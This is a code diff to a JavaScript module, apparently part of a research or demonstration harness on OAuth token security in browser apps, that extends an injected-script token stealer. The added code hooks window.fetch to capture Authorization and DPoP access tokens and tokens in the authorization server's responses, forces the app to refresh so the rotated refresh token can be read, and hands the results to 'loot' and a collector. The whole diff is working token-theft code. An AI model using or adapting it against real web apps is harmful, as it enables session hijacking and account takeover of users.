@@ -31,19 +31,26 @@ async function send(context, payload, item) {
 // One taken token as the collector's item: a refresh token names the public client it belongs to.
 const asItem = (found) => ({ kind: found.what, [found.what]: found.token, ...(found.what === "refresh_token" ? { client_id: config.clientId } : {}) });
 
-// Listen to the page's own fetch while `act` runs: the Authorization (and DPoP) header of its call of the API.
-// An in-memory token is a variable no script can name, yet every request the app makes carries it (§8).
+// Listen to the page's own fetch while `act` runs: the Authorization (and DPoP) header of its call of the API, and
+// the tokens in the AS's answer to its token requests. A token in memory is a variable no script can name, yet
+// every request the app makes carries it and every answer brings the next one (§8).
 async function overhear(act) {
   const original = window.fetch;
-  let heard = null;
-  window.fetch = function hooked(input, init = {}) {
+  const heard = [];
+  window.fetch = async function hooked(input, init = {}) {
+    const url = String(input.url ?? input);
     const headers = new Headers(init.headers ?? (input instanceof Request ? input.headers : undefined));
     const authorization = headers.get("authorization");
-    if (authorization && String(input.url ?? input).startsWith(config.api)) {
+    if (authorization && url.startsWith(config.api)) {
       const [scheme, token] = authorization.split(" ");
-      heard = { token, scheme };
+      heard.push({ what: "access_token", token, bound: scheme === "DPoP" });
     }
-    return original.apply(this, [input, init]);
+    const response = await original.apply(this, [input, init]);
+    if (url.startsWith(config.issuer)) {
+      const answer = await response.clone().json().catch(() => ({}));
+      for (const field of TOKEN_FIELDS) if (typeof answer[field] === "string") heard.push({ what: field, token: answer[field], bound: Boolean(headers.get("dpop")) });
+    }
+    return response;
   };
   try {
     await act();
@@ -70,8 +77,12 @@ export async function loot({ architecture, storage }) {
   }
   if (architecture !== "bff") {
     const heard = await overhear(() => app.callApi({ architecture, storage }));
-    if (heard) take("access_token", heard.token, heard.scheme === "DPoP");
-    else notes.push("the page made no API call with a token");
+    for (const item of heard) take(item.what, item.token, item.bound);
+    if (heard.length === 0) notes.push("the page made no API call with a token");
+  }
+  if (architecture === "browser" && storage !== "worker" && ![...found.values()].some((item) => item.what === "refresh_token")) {
+    // Not in Web Storage: make the app refresh, and read the rotated pair in the AS's answer.
+    for (const item of await overhear(() => app.refresh({ architecture, storage }))) take(item.what, item.token, item.bound);
   }
   if (architecture !== "browser") {
     // The token-mediating endpoint answers any script of the page: it sends the same X-CSRF and Origin the app does.
